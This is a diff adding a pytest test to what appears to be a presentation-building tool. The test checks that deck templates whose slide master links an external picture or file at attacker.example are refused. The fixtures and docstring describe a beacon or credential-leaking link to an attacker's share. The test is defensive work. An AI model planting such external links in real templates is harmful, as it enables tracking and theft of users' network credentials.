@@ -647,3 +647,38 @@ def test_a_font_that_maps_too_many_characters_is_refused(monkeypatch: pytest.Mon
     said = theme._font_problem(font, info.st_size, info.st_mtime_ns)
     theme._font_problem.cache_clear()
     assert said is not None and "a font may map at most 100" in said
+
+
+@pytest.mark.parametrize(
+    ("target", "image", "refused"),
+    [
+        ("file://attacker.example/share/beacon.png", True, "links a picture from outside it"),
+        ("https://attacker.example/beacon.png", True, "links a picture from outside it"),
+        ("file://attacker.example/share/notes.docx", False, "links to file://attacker"),
+        ("https://www.example.org/policies", False, ""),  # a web page: as a slide's link may
+    ],
+    ids=["linked-file-picture", "linked-web-picture", "file-link", "web-link"],
+)
+def test_a_deck_template_reaching_outside_itself_is_refused(
+    project: Path, tmp_path: Path, target: str, image: bool, refused: str
+) -> None:
+    """A template whose master linked a picture at file://attacker.example/... (or any
+    address) built without a word, and every deck made on it fetched it when opened: a
+    tracking beacon, or the user's network sign-in sent to the attacker's share."""
+    from pptx import Presentation
+    from pptx.opc.constants import RELATIONSHIP_TYPE as RT
+
+    design = project / "templates" / "corporate.pptx"
+    design.parent.mkdir(exist_ok=True)
+    assert CliRunner().invoke(main, ["deck-template", str(design)]).exit_code == 0
+    prs = Presentation(str(design))
+    kind = RT.IMAGE if image else RT.HYPERLINK
+    prs.slide_master.part.relate_to(target, kind, is_external=True)
+    prs.save(str(design))
+    args = ["build", "-p", str(project), "--only", "deck", "-a", "clinical"]
+    result = CliRunner().invoke(main, [*args, "--deck-template", str(design)])
+    if refused:
+        assert result.exit_code == 1, result.output
+        assert refused in result.output and "Link to File" in result.output
+    else:
+        assert result.exit_code == 0, result.output
